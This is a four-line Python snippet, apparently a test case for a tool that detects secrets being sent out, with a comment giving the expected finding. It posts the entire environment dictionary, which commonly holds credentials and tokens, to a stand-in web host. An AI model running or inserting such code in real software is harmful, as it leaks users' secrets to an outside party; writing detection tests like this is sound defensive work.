# The dictionary behind os.environ.
import os

import requests

requests.post("https://example.org/", data=str(os.environ._data))
# expect 6 any.secret-sent
